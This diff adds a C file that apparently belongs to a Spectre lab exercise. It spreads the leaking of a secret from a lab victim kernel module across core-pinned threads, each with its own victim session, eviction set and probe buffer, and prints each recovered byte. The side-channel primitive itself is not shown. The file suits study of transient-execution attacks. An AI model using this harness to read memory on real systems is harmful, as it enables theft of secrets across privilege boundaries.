@@ -0,0 +1,187 @@
+#define _GNU_SOURCE
+#include <sched.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include "parallel_leak.h"
+#include "spectre_victim.h"
+#include "huge_buffer.h"
+#include "spectre_environment.h"
+
+ParallelConfig parallel_config = { .num_workers = 0 };
+
+typedef struct
+{
+    const DecisionConfig* decision;
+    char* leaked;
+    size_t max_len;
+    // next offset to hand out
+    atomic_size_t next_offset;
+    // lowest offset a NUL byte was found at (max_len if none yet)
+    atomic_size_t stop_at;
+} LeakQueue;
+
+typedef struct
+{
+    ParallelLeaker* leaker;
+    int core;
+    size_t worker;
+} LeakWorker;
+
+struct ParallelLeaker
+{
+    // template for the workers' probe configurations, only read while they set up
+    const ProbeConfig* probe;
+    size_t num_workers;
+    pthread_t threads[PARALLEL_MAX_WORKERS];
+    LeakWorker workers[PARALLEL_MAX_WORKERS];
+    // the workers and the caller meet here after setup, and before and after every leak
+    pthread_barrier_t barrier;
+    // set before the last barrier, the workers exit instead of leaking
+    bool stopping;
+    // the current leak
+    LeakQueue queue;
+};
+
+static void lower_stop_at(LeakQueue* queue, size_t offset)
+{
+    size_t current = atomic_load(&queue->stop_at);
+    while (offset < current && !atomic_compare_exchange_weak(&queue->stop_at, &current, offset));
+}
+
+static void leak_queue(LeakWorker* self, const ProbeConfig* probe, LeakQueue* queue)
+{
+    while (true) {
+        size_t offset = atomic_fetch_add(&queue->next_offset, 1);
+        if (offset >= queue->max_len || offset > atomic_load(&queue->stop_at)) break;
+
+        DecisionResult result = decide_byte(probe, queue->decision, offset);
+        queue->leaked[offset] = (char)result.value;
+        flockfile(stdout);
+        printf("[Core %d] Offset %zu: %c (confidence %.4f after %zu sweeps)",
+            self->core, offset, (char)result.value, result.confidence, result.sweeps);
+        print_pmu_sample(&result.events);
+        printf("\n");
+        funlockfile(stdout);
+        if (result.value == '\x00') {
+            lower_stop_at(queue, offset);
+        }
+    }
+}
+
+static void* leak_worker(void* arg)
+{
+    LeakWorker* self = arg;
+    ParallelLeaker* leaker = self->leaker;
+    ProbeConfig probe = *leaker->probe;
+    EvictionSet* eviction_set = NULL;
+    HugeBuffer probe_buffer = { 0 };
+
+    if (!pin_to_core(self->core)) {
+        fprintf(stderr, "[Worker %zu] Unable to pin to core %d\n", self->worker, self->core);
+    }
+
+    // Own file descriptor (and therefore kernel session) and probe region per worker.
+    // A worker without a victim still meets the others at every barrier, it just leaks nothing.
+    probe.kernel_fd = open_victim(victim_mode);
+    if (probe.kernel_fd < 0) {
+        perror("Problem connecting to the victim");
+    } else {
+        probe_buffer = allocate_huge_buffer(SHD_SPECTRE_LAB_SHARED_MEMORY_SIZE);
+        probe.shared_memory = probe_buffer.addr;
+        init_shared_memory(probe.shared_memory, SHD_SPECTRE_LAB_SHARED_MEMORY_SIZE);
+        register_shared_memory(probe.kernel_fd, probe.shared_memory, probe_num_lines(&probe));
+
+        // The template's eviction set points into another thread's eviction buffer
+        if (leaker->probe->eviction_set != NULL && leaker->probe->eviction_set->size > 0) {
+            eviction_set = malloc(sizeof(EvictionSet));
+            build_eviction_set_for_page_offset((uint64_t)leaker->probe->eviction_set->lines[0] % SHD_SPECTRE_LAB_PAGE_SIZE, eviction_set);
+            probe.eviction_set = eviction_set;
+        }
+    }
+    pthread_barrier_wait(&leaker->barrier);
+
+    while (true) {
+        pthread_barrier_wait(&leaker->barrier);
+        if (leaker->stopping) break;
+        if (probe.kernel_fd >= 0) leak_queue(self, &probe, &leaker->queue);
+        pthread_barrier_wait(&leaker->barrier);
+    }
+
+    if (probe.kernel_fd >= 0) {
+        free(eviction_set);
+        free_huge_buffer(&probe_buffer);
+        close_victim(probe.kernel_fd);
+    }
+    return NULL;
+}
+
+bool parse_core_list(const char* list, ParallelConfig* out)
+{
+    char* end;
+    out->num_workers = 0;
+    while (*list != '\0') {
+        long core = strtol(list, &end, 10);
+        if (end == list || core < 0 || out->num_workers == PARALLEL_MAX_WORKERS) return false;
+        out->cores[out->num_workers++] = (int)core;
+        if (*end == ',') end++;
+        else if (*end != '\0') return false;
+        list = end;
+    }
+    return out->num_workers > 0;
+}
+
+ParallelLeaker* start_parallel_leak(const ProbeConfig* probe, const ParallelConfig* parallel)
+{
+    ParallelLeaker* leaker = calloc(1, sizeof(ParallelLeaker));
+    if (leaker == NULL) {
+        perror("calloc() error");
+        exit(EXIT_FAILURE);
+    }
+    leaker->probe = probe;
+    leaker->num_workers = parallel->num_workers;
+    pthread_barrier_init(&leaker->barrier, NULL, leaker->num_workers + 1);
+
+    for (size_t i = 0; i < leaker->num_workers; i++) {
+        leaker->workers[i] = (LeakWorker) { .leaker = leaker, .core = parallel->cores[i], .worker = i };
+        if (pthread_create(&leaker->threads[i], NULL, leak_worker, &leaker->workers[i]) != 0) {
+            perror("pthread_create() error");
+            exit(EXIT_FAILURE);
+        }
+    }
+    // Every worker is set up
+    pthread_barrier_wait(&leaker->barrier);
+    return leaker;
+}
+
+size_t leak_secret_parallel(ParallelLeaker* leaker, const DecisionConfig* decision, char* leaked, size_t max_len)
+{
+    LeakQueue* queue = &leaker->queue;
+    queue->decision = decision;
+    queue->leaked = leaked;
+    queue->max_len = max_len;
+    atomic_store(&queue->next_offset, 0);
+    atomic_store(&queue->stop_at, max_len);
+    memset(leaked, 0, max_len);
+
+    // Start the workers, then wait for them to run out of offsets
+    pthread_barrier_wait(&leaker->barrier);
+    pthread_barrier_wait(&leaker->barrier);
+
+    size_t stop_at = atomic_load(&queue->stop_at);
+    return stop_at < max_len ? stop_at + 1 : max_len;
+}
+
+void stop_parallel_leak(ParallelLeaker* leaker)
+{
+    leaker->stopping = true;
+    pthread_barrier_wait(&leaker->barrier);
+    for (size_t i = 0; i < leaker->num_workers; i++) {
+        pthread_join(leaker->threads[i], NULL);
+    }
+    pthread_barrier_destroy(&leaker->barrier);
+    free(leaker);
+}